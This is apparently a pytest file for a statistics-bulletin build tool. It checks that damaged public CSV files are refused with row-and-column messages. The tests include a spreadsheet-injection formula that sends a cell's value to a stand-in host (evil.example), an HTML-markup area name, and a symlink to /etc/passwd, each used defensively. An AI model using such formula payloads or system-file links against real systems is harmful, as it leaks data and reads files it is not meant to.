"""Bad public data (`bulletin build --public-data DIR`): every kind of problem is reported
with its file, row and column, all at once; the build exits 1 and changes nothing.

Each test copies the two public files the build reads, damages them, and builds a copy of
the shared `built` project against them. Expected rows are found independently: the index
of the damaged line in the file (the header is row 1, so line i counts as row i + 1).
"""

from __future__ import annotations

import csv
import hashlib
import io
import pkgutil
from collections.abc import Callable
from pathlib import Path

import pytest

import bulletin.data
from bulletin.cli import main
from bulletin.data.public_files import PUBLIC_FILES, public_problems
from tests.conftest import ROOT, copy_built, run_cli

B1 = "cin_characteristics/release_2023/b1_children_in_need_2013_to_2023.csv"
POP = "population/ons_mid-year_population_estimates_2012_to_2024.csv"
Rows = list[list[str]]
Project = tuple[Path, dict[str, str]]  # a built project, and its files' digests
Attempt = Callable[[Path], list[str]]


def snapshot(root: Path) -> dict[str, str]:
    """Every file and folder of the project (outputs and caches included) with its digest."""
    return {
        p.relative_to(root).as_posix(): (
            hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else "folder"
        )
        for p in sorted(root.rglob("*"))
    }


@pytest.fixture(scope="module")
def project(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Project:
    """A copy of the built project (every test checks that it stays as it is)."""
    root = copy_built(built, tmp_path_factory.mktemp("bad-public") / "project")
    return root, snapshot(root)


@pytest.fixture
def public(tmp_path: Path) -> Path:
    """A copy of the public files the build reads."""
    folder = tmp_path / "public"
    for spec in PUBLIC_FILES:
        (folder / spec.path).parent.mkdir(parents=True, exist_ok=True)
        (folder / spec.path).write_bytes((ROOT / "data/public" / spec.path).read_bytes())
    return folder


def edit(folder: Path, name: str, change: Callable[[Rows], None]) -> None:
    path = folder / name
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    change(rows)
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")


def find(rows: Rows, **cells: str) -> int:
    """The index of the first row with these cells (0 is the header)."""
    header = rows[0]
    return next(
        i
        for i, row in enumerate(rows)
        if i and all(row[header.index(c)] == v for c, v in cells.items())
    )


@pytest.fixture
def attempt(
    project: Project, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> Attempt:
    """Build the project against a public data folder; check that it failed, saying that
    nothing was changed, and that nothing was; return the problems it printed."""

    def build(public: Path) -> list[str]:
        root, before = project
        monkeypatch.setenv("BULLETIN_ROOT", str(root))
        code = main(["build", "--quiet", "--public-data", str(public)])
        err = capsys.readouterr().err.splitlines()
        assert code == 1
        assert err[0] == "bulletin build: bad input, nothing was changed:"
        assert snapshot(root) == before
        return err[1:]

    return build


def test_the_real_public_files_have_no_problem() -> None:
    assert public_problems(ROOT / "data/public") == []


def test_every_public_file_bulletin_data_names_is_checked() -> None:
    """A loader that reads a new public file must declare it in PUBLIC_FILES."""
    checked = {spec.path for spec in PUBLIC_FILES}
    named = set()
    for module in pkgutil.walk_packages(bulletin.data.__path__, "bulletin.data."):
        if module.name.endswith("__main__"):
            continue
        loaded = __import__(module.name, fromlist=["_"])
        for value in vars(loaded).values():
            if isinstance(value, str) and value.endswith(".csv"):
                named.add(value)
    assert named <= {
        p.relative_to(ROOT / "data/public").as_posix() for p in ROOT.glob("data/public/**/*.csv")
    }
    assert named == checked


def test_a_missing_column(attempt: Attempt, public: Path) -> None:
    def drop(rows: Rows) -> None:
        at = rows[0].index("At31_episodes_rate")
        for row in rows:
            del row[at]

    edit(public, B1, drop)
    assert attempt(public) == [
        f"{B1}, row 1, column At31_episodes_rate: required column is missing"
    ]


def test_values_that_are_neither_numbers_nor_symbols_in_two_files_at_once(
    attempt: Attempt, public: Path
) -> None:
    where = {}

    def b1(rows: Rows) -> None:
        where[B1] = find(rows, time_period="2018", geographic_level="National")
        rows[where[B1]][rows[0].index("At31_episodes")] = "lots"

    def population(rows: Rows) -> None:
        where[POP] = find(rows, time_period="2017", new_la_code="E09000007")
        rows[where[POP]][rows[0].index("population_estimate")] = "3O,954"  # a letter O

    edit(public, B1, b1)
    edit(public, POP, population)
    assert attempt(public) == [
        f"{B1}, row {where[B1] + 1}, column At31_episodes: "
        "'lots' is neither a number nor a GSS symbol",
        f"{POP}, row {where[POP] + 1}, column population_estimate: "
        "'3O,954' is neither a number nor a GSS symbol",
    ]


def test_an_unknown_geographic_level(attempt: Attempt, public: Path) -> None:
    where = []

    def change(rows: Rows) -> None:
        where.append(find(rows, time_period="2018", region_code="E12000001", la_name=""))
        rows[where[0]][rows[0].index("geographic_level")] = "Region"

    edit(public, B1, change)
    assert attempt(public) == [
        f"{B1}, row {where[0] + 1}, column geographic_level: unknown geographic level "
        "'Region': expected National, Regional, Local authority"
    ]


def test_a_duplicate_row(attempt: Attempt, public: Path) -> None:
    where = []

    def change(rows: Rows) -> None:
        where.append(find(rows, time_period="2018", new_la_code="E09000007"))
        rows.append(list(rows[where[0]]))
        where.append(len(rows) - 1)

    edit(public, B1, change)
    first, second = where
    assert attempt(public) == [
        f"{B1}, row {second + 1}, column new_la_code: a second row for E09000007 "
        f"(Local authority) in 2018: the first is row {first + 1}"
    ]


def test_an_empty_file(attempt: Attempt, public: Path) -> None:
    (public / POP).write_bytes(b"")
    assert attempt(public) == [f"{POP}, row 1: the file is empty: row 1 should be the header"]


def test_a_file_saved_as_utf16(attempt: Attempt, public: Path) -> None:
    text = (public / B1).read_text(encoding="utf-8-sig")
    (public / B1).write_bytes(text.encode("utf-16"))  # what "Unicode text" in Excel saves
    assert attempt(public) == [
        f"{B1}, row 1: the file is UTF-16 (little-endian) text, not UTF-8: save it as CSV UTF-8"
    ]


def test_cells_in_another_encoding(attempt: Attempt, public: Path) -> None:
    """A name with an accent saved as Windows-1252: each such cell is named."""
    lines = (public / POP).read_bytes().split(b"\n")
    at = [i for i, line in enumerate(lines) if b",Camden," in line][:2]
    for i in at:
        lines[i] = lines[i].replace(b",Camden,", ",Camdén,".encode("cp1252"))
    (public / POP).write_bytes(b"\n".join(lines))
    message = (
        "'Camd\\\\xe9n' is not UTF-8 text (byte 0xe9; the file may be Windows-1252 or "
        "Latin-1): save the file as CSV UTF-8"
    )
    assert attempt(public) == [f"{POP}, row {i + 1}, column la_name: {message}" for i in at]


def test_names_not_in_the_code_lookup(attempt: Attempt, public: Path) -> None:
    """The lookup (the population file) names E09000007 Camden and E09000028 Southwark."""
    where = {}

    def change(rows: Rows) -> None:
        name = rows[0].index("la_name")
        where["camden"] = find(rows, time_period="2018", new_la_code="E09000007")
        rows[where["camden"]][name] = "<b>Camden</b>"
        where["southwark"] = find(rows, time_period="2017", new_la_code="E09000028")
        rows[where["southwark"]][name] = "Southwork"
        where["unknown"] = find(rows, time_period="2016", new_la_code="E09000028")
        rows[where["unknown"]][rows[0].index("new_la_code")] = "E09000099"

    edit(public, B1, change)
    assert attempt(public) == [  # in file order: the B1 file lists 2018 before 2017
        f"{B1}, row {where['camden'] + 1}, column la_name: '<b>Camden</b>' is not plain text "
        "(it holds < or > or a control character); is not the la_name the code lookup gives "
        "E09000007 ('Camden')",
        f"{B1}, row {where['southwark'] + 1}, column la_name: 'Southwork' is not the la_name "
        "the code lookup gives E09000028 ('Southwark')",
        f"{B1}, row {where['unknown'] + 1}, column new_la_code: E09000099 is not in the code "
        f"lookup ({POP})",
    ]
    assert where["camden"] < where["southwark"] < where["unknown"]


def renamed(new: str, rows_of: dict[str, list[int]]) -> Callable[[str], Callable[[Rows], None]]:
    """For a file name, a change that renames Camden to `new` on every row of that file,
    noting the rows in `rows_of`."""

    def change(name: str) -> Callable[[Rows], None]:
        def apply(rows: Rows) -> None:
            column = rows[0].index("la_name")
            rows_of[name] = [i for i, r in enumerate(rows) if r[column] == "Camden"]
            for i in rows_of[name]:
                rows[i][column] = new

        return apply

    return change


def test_a_name_with_markup_everywhere_is_still_refused(attempt: Attempt, public: Path) -> None:
    """Every file agrees on the HTML name, so it is in the lookup: it is still not text."""
    rows_of: dict[str, list[int]] = {}
    change = renamed("<b>Camden</b>", rows_of)
    names = [spec.path for spec in PUBLIC_FILES]
    for name in names:
        edit(public, name, change(name))
    message = (
        "column la_name: '<b>Camden</b>' is not plain text (it holds < or > or a control character)"
    )
    assert sorted(attempt(public)) == sorted(
        f"{name}, row {i + 1}, {message}" for name in names for i in rows_of[name]
    )
    assert len(rows_of[B1]) == 11  # 2013 to 2023
    assert len(rows_of[POP]) == 13  # mid-2012 to mid-2024


def test_the_command_exits_1_and_says_nothing_was_changed(project: Project, public: Path) -> None:
    """The same through a real process: its exit status and its message."""
    root, before = project

    def change(rows: Rows) -> None:
        rows[find(rows, new_la_code="E09000007")][rows[0].index("la_name")] = "<b>Camden</b>"

    edit(public, B1, change)
    result = run_cli("build", "--public-data", str(public), root=root)
    assert result.returncode == 1
    assert "bad input, nothing was changed" in result.stderr
    assert "'<b>Camden</b>' is not plain text" in result.stderr
    assert snapshot(root) == before


def test_a_name_with_markup_is_escaped_in_html_even_past_the_checks() -> None:
    """Defence in depth: were such a name to reach a template, autoescaping shows it as
    text, never as markup."""
    from bulletin.render import environment
    from bulletin.tables.model import Cell, Column, Row, Table

    table = Table(
        "tbl-x",
        "area_name",
        (),
        (Column("n"),),
        (Row("<b>Camden</b>", (), (Cell("1"),)),),
        "source",
    )
    env = environment(ROOT / "templates")
    template = env.from_string(
        '{% import "shared/components.html.jinja" as c with context %}'
        '{% call c.table(t, ["Area", "Number"], {}) %}Caption{% endcall %}'
    )
    html = template.render(t=table, publication={"id": "p"})
    assert '<th scope="row">&lt;b&gt;Camden&lt;/b&gt;</th>' in html
    assert "<b>" not in html


# -- values that cannot be what their column holds, and inputs that used to raise ----------
# Each of these was found by an outside corpus of bad inputs (issue 21): on the main branch
# before it, the build published the value, or stopped with a traceback.


def test_a_formula_as_an_area_name_in_both_files_is_refused(attempt: Attempt, public: Path) -> None:
    """Every file agrees on the name, so the code lookup holds it: still not a name."""
    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Camden")'
    rows_of: dict[str, list[int]] = {}
    change = renamed(formula, rows_of)
    names = [spec.path for spec in PUBLIC_FILES]
    for name in names:
        edit(public, name, change(name))
    message = (
        f"column la_name: {formula!r} is not an area name (letters, spaces and "
        ", . ' \u2019 - & ( ) only)"
    )
    assert sorted(attempt(public)) == sorted(
        f"{name}, row {i + 1}, {message}" for name in names for i in rows_of[name]
    )
    assert len(rows_of[B1]) == 11  # 2013 to 2023


def test_impossible_counts_and_rates(attempt: Attempt, public: Path) -> None:
    """A negative count, a count that is not whole, a count larger than the children of
    its area, a rate of 1e400 and a rate above 10,000 per 10,000, each where it is."""
    where = {}

    def change(rows: Rows) -> None:
        h = rows[0]
        where["negative"] = find(rows, time_period="2018", geographic_level="National")
        rows[where["negative"]][h.index("At31_episodes")] = "-1776"
        where["half"] = find(rows, time_period="2017", geographic_level="National")
        rows[where["half"]][h.index("Anypoint_child")] = "692880.5"
        # Camden 2018: 12,000,000 children in need; its mid-2017 estimate is 39,585 children
        # (the population file's 2017 row for E09000007, read by hand)
        where["over"] = find(rows, time_period="2018", new_la_code="E09000007")
        rows[where["over"]][h.index("At31_episodes")] = "12000000"
        where["huge"] = find(rows, time_period="2016", geographic_level="National")
        rows[where["huge"]][h.index("At31_episodes_rate")] = "1e400"
        where["above"] = find(rows, time_period="2015", geographic_level="National")
        rows[where["above"]][h.index("Anypoint_child_rate")] = "10000.1"

    edit(public, B1, change)
    assert attempt(public) == sorted(
        [
            f"{B1}, row {where['negative'] + 1}, column At31_episodes: '-1776' is a negative "
            "count: a count is at least 0",
            f"{B1}, row {where['half'] + 1}, column Anypoint_child: '692880.5' is not a whole "
            "number: a count is whole",
            f"{B1}, row {where['over'] + 1}, column At31_episodes: 12,000,000 is more than the "
            f"39,585 children aged 0 to 17 of E09000007 (mid-2017 estimate, {POP})",
            f"{B1}, row {where['huge'] + 1}, column At31_episodes_rate: '1e400' is not written "
            "as a plain number (no exponent): write it out",
            f"{B1}, row {where['above'] + 1}, column Anypoint_child_rate: '10000.1' is not a "
            "rate per 10,000: it must be from 0 to 10,000",
        ],
        key=lambda line: int(line.split(", row ")[1].split(",")[0]),
    )


def test_a_percentage_above_100_or_below_0(attempt: Attempt, public: Path) -> None:
    """C1's percentages are from 0 to 100 (not counts, which must be whole)."""
    c1 = "cin_characteristics/release_2023/c1_children_in_need_referrals_and_rereferrals_2013_to_2023.csv"
    where = {}

    def change(rows: Rows) -> None:
        h = rows[0]
        where["above"] = find(rows, time_period="2018", geographic_level="National")
        rows[where["above"]][h.index("Re_referrals_percent")] = "100.5"
        where["below"] = find(rows, time_period="2017", geographic_level="National")
        rows[where["below"]][h.index("Re_referrals_percent")] = "-0.1"

    edit(public, c1, change)
    assert sorted(attempt(public)) == sorted(
        [
            f"{c1}, row {where['above'] + 1}, column Re_referrals_percent: '100.5' is not a "
            "percentage: it must be from 0 to 100",
            f"{c1}, row {where['below'] + 1}, column Re_referrals_percent: '-0.1' is not a "
            "percentage: it must be from 0 to 100",
        ]
    )


def test_a_year_outside_the_span_the_file_documents(attempt: Attempt, public: Path) -> None:
    where = []

    def change(rows: Rows) -> None:
        where.append(find(rows, time_period="2013", new_la_code="E09000007"))
        rows[where[0]][rows[0].index("time_period")] = "1776"

    edit(public, B1, change)
    assert attempt(public) == [
        f"{B1}, row {where[0] + 1}, column time_period: 1776 is outside the years this file "
        "covers (2013 to 2023)"
    ]


def test_a_200000_character_name_is_reported_cut_to_80_characters(
    attempt: Attempt, public: Path
) -> None:
    where = []

    def change(rows: Rows) -> None:
        where.append(find(rows, time_period="2018", new_la_code="E09000007"))
        rows[where[0]][rows[0].index("la_name")] = "Camden" * 33_334  # 200,004 characters

    edit(public, B1, change)
    shown = ("Camden" * 14)[:79] + "\u2026"
    assert attempt(public) == [
        f"{B1}, row {where[0] + 1}, column la_name: {shown!r} is 200,004 characters long: a "
        "cell may hold 1,000"
    ]


def test_a_quote_that_is_never_closed_names_its_row(attempt: Attempt, public: Path) -> None:
    lines = (public / B1).read_bytes().split(b"\n")
    at = next(i for i, line in enumerate(lines) if b",E09000007," in line)
    lines[at] = lines[at].replace(b",Camden,", b',"Camden,', 1)
    (public / B1).write_bytes(b"\n".join(lines))
    assert attempt(public) == [
        f"{B1}, row {at + 1}: a quote opened in this row is not closed where its cell ends: "
        "the rows after it were not read"
    ]


def test_a_public_file_linked_to_a_system_file_is_refused_unread(
    attempt: Attempt, public: Path
) -> None:
    (public / POP).unlink()
    (public / POP).symlink_to("/etc/passwd")
    assert attempt(public) == [
        f"{POP}: is a symbolic link to /etc/passwd, outside the data folder {public}: it was "
        "not read (copy the file into the folder)"
    ]


def test_an_extra_text_column_is_reported_twenty_times_and_listed_whole_in_a_file(
    project: Project,
    public: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """1,802 rows, each with a text cell where a number should be: 20 lines and a count on
    the terminal; every one in the report file under the cache (and nothing else written)."""
    edit(
        public,
        B1,
        lambda rows: [row.append("notes" if i else "comment") for i, row in enumerate(rows)],
    )
    root, before = project
    monkeypatch.setenv("BULLETIN_ROOT", str(root))
    assert main(["build", "--quiet", "--public-data", str(public)]) == 1
    err = capsys.readouterr().err.splitlines()
    assert err[0] == "bulletin build: bad input, nothing was changed:"
    message = "column comment: 'notes' is neither a number nor a GSS symbol"
    assert err[1:21] == [f"{B1}, row {i}, {message}" for i in range(2, 22)]
    assert err[21] == f"{B1}: and 1,782 more like the one above"
    report = root / ".cache/bulletin/reports/build-problems.txt"
    assert err[22] == f"bulletin build: every problem is listed in {report}"
    assert len(err) == 23
    listed = report.read_text(encoding="utf-8").splitlines()
    assert listed == [f"{B1}, row {i}, {message}" for i in range(2, 1804)]
    report.unlink()
    report.parent.rmdir()
    assert snapshot(root) == before


def late_attempt(
    root: Path, public: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> list[str]:
    """Build against `public` on the hand-made extract (no population to generate): a problem
    found after the checks of the public files stops the build; the outputs stay as they
    were. Returns the problems printed."""
    from tests.data.linked_helpers import FIXTURE

    (public / "facts.toml").write_bytes((ROOT / "data/public/facts.toml").read_bytes())
    outputs = {n: v for n, v in snapshot(root).items() if not n.startswith(".cache/")}
    monkeypatch.setenv("BULLETIN_ROOT", str(root))
    code = main(["build", "--quiet", "--public-data", str(public), "--linked-data", str(FIXTURE)])
    err = capsys.readouterr().err.splitlines()
    assert code == 1
    assert err[0] == "bulletin build: bad input, nothing was changed:"
    assert {n: v for n, v in snapshot(root).items() if not n.startswith(".cache/")} == outputs
    return err[1:]


def test_a_symbol_where_the_headline_needs_a_number(
    project: Project,
    public: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """'low' for the national count of 2018: the file may say so, but the headline cannot
    print "low children in England were in need"."""
    where = []

    def change(rows: Rows) -> None:
        where.append(find(rows, time_period="2018", geographic_level="National"))
        rows[where[0]][rows[0].index("At31_episodes")] = "low"

    edit(public, B1, change)
    assert late_attempt(project[0], public, capsys, monkeypatch) == [
        f"{B1}, row {where[0] + 1}, column At31_episodes: 'low' (rounds to zero, but is not "
        "zero) where the headline needs a number: children in need at 31 March 2018"
    ]


def test_a_missing_national_year_names_the_file(
    project: Project,
    public: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    edit(
        public,
        B1,
        lambda rows: rows.pop(find(rows, time_period="2015", geographic_level="National")),
    )
    assert late_attempt(project[0], public, capsys, monkeypatch) == [
        f"{B1}, column time_period: expected one national row for 2015, found 0"
    ]
